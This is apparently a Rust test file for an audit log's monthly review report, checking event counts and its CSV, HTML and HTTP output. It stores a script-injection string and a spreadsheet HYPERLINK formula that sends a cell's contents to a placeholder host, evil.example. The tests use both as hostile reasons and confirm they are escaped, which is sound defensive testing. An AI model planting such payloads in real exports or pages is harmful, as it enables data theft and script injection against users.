//! The monthly review report on a fixture month, on SQLite and PostgreSQL: its
//! counts (local month and days, off hours, bulk access, denied attempts,
//! downloads with reasons), its CSV and HTML escaping, and `GET /report`.

use std::collections::BTreeMap;
use std::sync::Arc;

use egov_audit::report::{Account, AccountCount, BulkAccess, CSV_COLUMNS, MonthlyReport};
use egov_audit::{Action, AuditEvent, AuditLog, AuditSettings, Outcome, Reason, SubjectId, Target};
use egov_core::actor::Actor;
use egov_core::clock::ManualClock;
use egov_core::id::AccountId;
use egov_db::Db;
use time::macros::{date, datetime};
use time::{Month, OffsetDateTime};

const SCRIPT_REASON: &str = "<script>alert(1)</script> 민원 회신";
const FORMULA_REASON: &str = "=HYPERLINK(\"http://evil.example/?q=\"&A1,\"click\")";

fn settings() -> AuditSettings {
    AuditSettings {
        utc_offset_hours: 9,
        off_hours: [22, 6],
        bulk_access_threshold: 3,
        ..AuditSettings::default()
    }
}

fn subjects(n: usize) -> Vec<SubjectId> {
    (1..=n)
        .map(|i| SubjectId::try_from(format!("id:0192f0e4-0000-7000-8000-{i:012}")).unwrap())
        .collect()
}

struct Fixture {
    a: Account,
    b: Account,
    c: Account,
    batch: Account,
}

fn account(id: AccountId) -> (Actor, Account) {
    (
        Actor::account(id, []),
        Account {
            kind: "account".into(),
            id: Some(id.to_string()),
        },
    )
}

/// Records the fixture month (times in Korean local time, UTC+9).
async fn record_fixture(db: &Db) -> Fixture {
    db.migrate(&[&egov_audit::MIGRATIONS]).await.unwrap();
    let clock = Arc::new(ManualClock::new(datetime!(2026-10-01 00:00 UTC)));
    let log = AuditLog::start_with_clock(db.clone(), &settings(), clock.clone())
        .await
        .unwrap();
    let (a, a_account) = account(AccountId::new());
    let (b, b_account) = account(AccountId::new());
    let (c, c_account) = account(AccountId::new());
    let batch = Actor::system("batch");
    let s = subjects(5);
    let view = |actor: &Actor, who: &[usize]| {
        AuditEvent::new(Action::VIEW, actor, Outcome::Success)
            .subjects(who.iter().map(|i| s[i - 1].clone()))
    };
    let denied = |actor: &Actor| AuditEvent::new(Action::PERMISSION_DENIED, actor, Outcome::Denied);
    let events: Vec<(OffsetDateTime, AuditEvent)> = vec![
        // Outside the local month, though the second is in November in UTC.
        (datetime!(2026-10-31 23:59 +9), view(&a, &[1])),
        (datetime!(2026-12-01 00:00 +9), view(&c, &[1])),
        // A: 7 views (3 in off hours), 2 downloads (one without reason), 1 denied.
        (datetime!(2026-11-01 00:30 +9), view(&a, &[1])),
        (datetime!(2026-11-03 10:00 +9), view(&a, &[1])),
        (datetime!(2026-11-03 10:05 +9), view(&a, &[2])),
        (
            datetime!(2026-11-03 11:00 +9),
            AuditEvent::personal_data_download(
                Action::DOWNLOAD,
                &a,
                Target::new("applicant", "list"),
                [s[0].clone(), s[1].clone()],
                Reason::new(SCRIPT_REASON).unwrap(),
            ),
        ),
        (
            datetime!(2026-11-03 11:30 +9),
            AuditEvent::new(Action::DOWNLOAD, &a, Outcome::Failure)
                .target(Target::kind("route"))
                .reason_code("missing_reason"),
        ),
        (datetime!(2026-11-04 21:59 +9), view(&a, &[3])),
        (datetime!(2026-11-04 22:00 +9), view(&a, &[3])),
        (datetime!(2026-11-05 05:59 +9), view(&a, &[3])),
        (datetime!(2026-11-05 06:00 +9), view(&a, &[3])),
        (datetime!(2026-11-20 09:00 +9), denied(&a)),
        // B: 4 distinct subjects on the 10th (bulk), 3 on the 11th (not above
        // the threshold), 2 + 2 around midnight of the 12th/13th (4 in one UTC
        // day, but 2 per local day), and an export of 5 on the 14th (bulk).
        (datetime!(2026-11-10 14:00 +9), view(&b, &[1])),
        (datetime!(2026-11-10 14:01 +9), view(&b, &[2])),
        (datetime!(2026-11-10 14:02 +9), view(&b, &[3])),
        (datetime!(2026-11-10 14:03 +9), view(&b, &[4])),
        (datetime!(2026-11-10 15:00 +9), view(&b, &[1])),
        (datetime!(2026-11-11 10:00 +9), view(&b, &[1, 2, 3])),
        (datetime!(2026-11-12 23:30 +9), view(&b, &[1, 2])),
        (datetime!(2026-11-13 00:30 +9), view(&b, &[3, 4])),
        (
            datetime!(2026-11-14 10:00 +9),
            AuditEvent::personal_data_download(
                Action::EXPORT,
                &b,
                Target::kind("applicant"),
                s.clone(),
                Reason::new(FORMULA_REASON).unwrap(),
            ),
        ),
        // C: 3 denied, and a view in the month's last local minute.
        (datetime!(2026-11-15 13:00 +9), denied(&c)),
        (datetime!(2026-11-15 13:01 +9), denied(&c)),
        (datetime!(2026-11-15 13:02 +9), denied(&c)),
        (datetime!(2026-11-30 23:59 +9), view(&c, &[5])),
        // The system: a night-time export of no personal data.
        (
            datetime!(2026-11-16 03:00 +9),
            AuditEvent::new(Action::EXPORT, &batch, Outcome::Success)
                .target(Target::kind("code_table")),
        ),
    ];
    for (at, event) in events {
        clock.set(at);
        log.record(event).await.unwrap();
    }
    log.shutdown().await;
    Fixture {
        a: a_account,
        b: b_account,
        c: c_account,
        batch: Account {
            kind: "system".into(),
            id: Some("batch".into()),
        },
    }
}

/// Per account: its total, and its counts by action.
type ActionCounts<'a> = BTreeMap<Account, (u64, Vec<(&'a str, u64)>)>;
/// Who, action, outcome, subjects, reason, reason code.
type DownloadRow<'a> = (
    &'a Account,
    &'a str,
    &'a str,
    u64,
    Option<&'a str>,
    Option<&'a str>,
);

/// A minimal RFC 4180 reader, to check the CSV as a spreadsheet would read it.
fn parse_csv(text: &str) -> Vec<Vec<String>> {
    let mut rows = Vec::new();
    let mut row = Vec::new();
    let mut cell = String::new();
    let mut quoted = false;
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        match (quoted, c) {
            (true, '"') if chars.peek() == Some(&'"') => {
                chars.next();
                cell.push('"');
            }
            (true, '"') => quoted = false,
            (true, c) => cell.push(c),
            (false, '"') => quoted = true,
            (false, ',') => row.push(std::mem::take(&mut cell)),
            (false, '\r') => {}
            (false, '\n') => {
                row.push(std::mem::take(&mut cell));
                rows.push(std::mem::take(&mut row));
            }
            (false, c) => cell.push(c),
        }
    }
    assert!(
        cell.is_empty() && row.is_empty(),
        "the CSV ends with a line end"
    );
    rows
}

egov_db::backend_tests! {
    async fn the_monthly_report_counts_a_fixture_month(db) {
        let f = record_fixture(&db).await;
        let report = MonthlyReport::build(&db, "main", 2026, Month::November, &settings()).await.unwrap();
        assert_eq!(report.month, "2026-11");
        assert_eq!((report.from, report.to), (datetime!(2026-11-01 00:00 +9), datetime!(2026-12-01 00:00 +9)));
        assert_eq!(report.total_events, 24);

        let actions: ActionCounts = report
            .actions
            .iter()
            .map(|a| (a.account.clone(), (a.total, a.actions.iter().map(|(k, v)| (k.as_str(), *v)).collect())))
            .collect();
        let expected: ActionCounts = [
            (f.a.clone(), (10, vec![("download", 2), ("permission_denied", 1), ("view", 7)])),
            (f.b.clone(), (9, vec![("export", 1), ("view", 8)])),
            (f.c.clone(), (4, vec![("permission_denied", 3), ("view", 1)])),
            (f.batch.clone(), (1, vec![("export", 1)])),
        ]
        .into_iter()
        .collect();
        assert_eq!(actions, expected);

        let count = |account: &Account, events| AccountCount { account: account.clone(), events };
        assert_eq!(report.off_hours, [count(&f.a, 3), count(&f.b, 2), count(&f.c, 1), count(&f.batch, 1)]);
        assert_eq!(report.denied, [count(&f.c, 3), count(&f.a, 1)]);
        assert_eq!(
            report.bulk_access,
            [
                BulkAccess { account: f.b.clone(), date: date!(2026-11-10), subjects: 4 },
                BulkAccess { account: f.b.clone(), date: date!(2026-11-14), subjects: 5 },
            ]
        );

        assert!(!report.downloads_truncated);
        let downloads: Vec<DownloadRow> = report
            .downloads
            .iter()
            .map(|d| (&d.account, d.action.as_str(), d.outcome.as_str(), d.subjects, d.reason.as_deref(), d.reason_code.as_deref()))
            .collect();
        assert_eq!(
            downloads,
            [
                (&f.a, "download", "success", 2, Some(SCRIPT_REASON), None),
                (&f.a, "download", "failure", 0, None, Some("missing_reason")),
                (&f.b, "export", "success", 5, Some(FORMULA_REASON), None),
                (&f.batch, "export", "success", 0, None, None),
            ]
        );
        assert_eq!(report.downloads[0].occurred_at, datetime!(2026-11-03 11:00 +9));
        assert_eq!(report.downloads[0].occurred_at.offset().whole_hours(), 9);
        assert_eq!(report.downloads[0].target_id.as_deref(), Some("list"));

        // A month without events is an empty report, not an error.
        let empty = MonthlyReport::build(&db, "main", 2026, Month::February, &settings()).await.unwrap();
        assert_eq!(empty.total_events, 0);
        assert!(empty.actions.is_empty() && empty.downloads.is_empty() && empty.bulk_access.is_empty());
        // Another offset moves the month's edges: in UTC, A's first event (15:30Z
        // on 31 October) is in October, and C's in December (15:00Z on 30
        // November) in November.
        let utc = egov_audit::report::ReviewCriteria { utc_offset_hours: 0, ..(&settings()).into() };
        let in_utc = MonthlyReport::build_with(&db, "main", 2026, Month::November, utc).await.unwrap();
        assert_eq!(in_utc.total_events, 24);
        let total = |account: &Account| in_utc.actions.iter().find(|a| a.account == *account).map(|a| a.total);
        assert_eq!((total(&f.a), total(&f.c)), (Some(9), Some(5)));
        // The years at the edges of the calendar do not panic.
        for (year, month) in [(i32::MIN, Month::January), (-10_000, Month::May), (10_000, Month::May), (i32::MAX, Month::May), (9999, Month::December)] {
            let result = MonthlyReport::build(&db, "main", year, month, &settings()).await;
            assert!(matches!(result, Err(egov_audit::AuditError::Invalid(_))), "{year}");
        }
    }

    async fn the_csv_and_html_neutralize_hostile_reasons(db) {
        let f = record_fixture(&db).await;
        let report = MonthlyReport::build(&db, "main", 2026, Month::November, &settings()).await.unwrap();

        let csv = report.to_csv();
        assert!(csv.starts_with("\u{feff}section,principal_kind,"), "BOM and header");
        assert!(csv.contains("\r\n"));
        let rows = parse_csv(csv.trim_start_matches('\u{feff}'));
        assert_eq!(rows[0], CSV_COLUMNS);
        assert!(rows.iter().all(|r| r.len() == CSV_COLUMNS.len()), "{rows:?}");
        for cell in rows.iter().flatten() {
            assert!(!cell.starts_with(['=', '+', '-', '@']), "formula cell {cell:?}");
        }
        // summary 1 + action rows (3 + 2 + 2 + 1) + downloads 4 + off hours 4 + denied 2 + bulk 2
        assert_eq!(rows.len() - 1, 1 + 8 + 4 + 4 + 2 + 2);
        let section = |name: &str| rows.iter().filter(|r| r[0] == name).cloned().collect::<Vec<_>>();
        assert_eq!(section("summary"), [vec!["summary", "", "", "", "", "2026-11", "24", "", "", "", ""]]);
        let exports = section("download");
        let b_id = f.b.id.clone().unwrap();
        assert_eq!(
            exports[2],
            [
                "download", "account", b_id.as_str(), "export", "success", "2026-11-14T10:00:00+09:00",
                "5", "applicant", "", "", &format!("'{FORMULA_REASON}"),
            ]
        );
        assert_eq!(exports[0][10], SCRIPT_REASON);
        assert_eq!(exports[1][9], "missing_reason");
        assert_eq!(
            section("bulk").iter().map(|r| (r[2].clone(), r[5].clone(), r[6].clone())).collect::<Vec<_>>(),
            [(b_id.clone(), "2026-11-10".into(), "4".into()), (b_id.clone(), "2026-11-14".into(), "5".into())]
        );
        // The raw cell as written: quoted, quotes doubled, formula neutralized.
        assert!(csv.contains(r#""'=HYPERLINK(""http://evil.example/?q=""&A1,""click"")""#), "{csv}");

        let html = report.to_html();
        assert!(html.starts_with("<!DOCTYPE html>"));
        assert!(!html.to_ascii_lowercase().contains("<script"), "{html}");
        // minijinja's HTML escaping also writes `/` as `&#x2f;`.
        assert!(html.contains("&lt;script&gt;alert(1)&lt;&#x2f;script&gt; 민원 회신"), "{html}");
        assert!(html.contains(
            "=HYPERLINK(&quot;http:&#x2f;&#x2f;evil.example&#x2f;?q=&quot;&amp;A1,&quot;click&quot;)"
        ));
        assert!(html.contains("[missing_reason]"));
        assert!(html.contains(&f.c.id.clone().unwrap()));
        assert!(!html.contains("http-equiv") && !html.contains(" src=") && !html.contains(" href="));

        let json: serde_json::Value = serde_json::from_str(&report.to_json()).unwrap();
        assert_eq!(json["month"], "2026-11");
        assert_eq!(json["from"], "2026-11-01T00:00:00+09:00");
        assert_eq!(json["bulk_access"][0]["date"], "2026-11-10");
        assert_eq!(json["downloads"][0]["reason"], SCRIPT_REASON);
        assert_eq!(json["criteria"]["off_hours"], serde_json::json!([22, 6]));
    }

    async fn the_report_is_served_as_json_csv_and_html(db) {
        #[cfg(feature = "axum")]
        over_http::report_over_http(db).await;
        #[cfg(not(feature = "axum"))]
        let _ = db;
    }
}

#[cfg(feature = "axum")]
mod over_http {
    use super::*;
    use axum::Router;
    use axum::extract::Request;
    use axum::middleware::{Next, from_fn};
    use axum::response::Response;
    use egov_core::problem::Problem;
    use reqwest::header;

    /// Renders problems as egov-web would (type, field pointers), keeping headers.
    async fn problems(request: Request, next: Next) -> Response {
        let mut response = next.run(request).await;
        let Some(problem) = response.extensions_mut().remove::<Problem>() else {
            return response;
        };
        let body = serde_json::json!({
            "type": problem.problem_type().uri(),
            "fields": problem.errors().iter().map(|e| e.field.clone()).collect::<Vec<_>>(),
        });
        let (parts, _) = response.into_parts();
        Response::from_parts(parts, body.to_string().into())
    }

    pub(super) async fn report_over_http(db: Db) {
        let _ = record_fixture(&db).await;
        let expected = MonthlyReport::build(&db, "main", 2026, Month::November, &settings())
            .await
            .unwrap();
        let router = Router::new()
            .nest(
                "/admin/audit",
                egov_audit::admin::router(db.clone(), &settings()),
            )
            .layer(from_fn(problems));
        let base = format!("{}/admin/audit", egov_http::testing::serve(router).await);
        let get = |query: &str| reqwest::get(format!("{base}/report?{query}"));
        let text = |r: &reqwest::Response, name: header::HeaderName| {
            r.headers()
                .get(name)
                .map(|v| v.to_str().unwrap().to_owned())
        };

        let json = get("month=2026-11").await.unwrap();
        assert_eq!(json.status(), 200);
        assert_eq!(
            text(&json, header::CONTENT_TYPE).as_deref(),
            Some("application/json")
        );
        assert_eq!(
            text(&json, header::CACHE_CONTROL).as_deref(),
            Some("no-store")
        );
        assert_eq!(json.text().await.unwrap(), expected.to_json());

        let csv = get("month=2026-11&format=csv").await.unwrap();
        assert_eq!(csv.status(), 200);
        assert_eq!(
            text(&csv, header::CONTENT_TYPE).as_deref(),
            Some("text/csv; charset=utf-8")
        );
        assert_eq!(
            text(&csv, header::CONTENT_DISPOSITION).as_deref(),
            Some("attachment; filename=\"audit-review-2026-11.csv\"")
        );
        assert_eq!(csv.bytes().await.unwrap(), expected.to_csv().as_bytes());

        let html = get("format=html&month=2026-11").await.unwrap();
        assert_eq!(html.status(), 200);
        assert_eq!(
            text(&html, header::CONTENT_TYPE).as_deref(),
            Some("text/html; charset=utf-8")
        );
        let csp = text(&html, header::CONTENT_SECURITY_POLICY).unwrap();
        assert!(
            csp.starts_with("default-src 'none'; style-src 'sha256-"),
            "{csp}"
        );
        assert_eq!(html.text().await.unwrap(), expected.to_html());

        for (query, fields) in [
            ("", vec!["/month"]),
            ("month=2026-13", vec!["/month"]),
            ("month=11-2026&format=pdf", vec!["/format", "/month"]),
            ("month=2026-11&format=CSV", vec!["/format"]),
            ("month=2026-11&month=2026-12", vec!["/month"]),
            ("month=9999999999-01", vec!["/month"]),
            ("month=0000-01", vec!["/month"]),
            ("month=2026-11&x=%00", vec!["/x"]),
        ] {
            let response = get(query).await.unwrap();
            assert_eq!(response.status(), 422, "{query}");
            let body: serde_json::Value = response.json().await.unwrap();
            assert_eq!(
                body["type"], "urn:egov:problem:validation-failed",
                "{query}"
            );
            assert_eq!(body["fields"], serde_json::json!(fields), "{query}");
        }
        // The calendar's last representable month; the one after it is refused.
        assert_eq!(get("month=9998-12").await.unwrap().status(), 200);
        assert_eq!(get("month=9999-01").await.unwrap().status(), 422);
    }
}
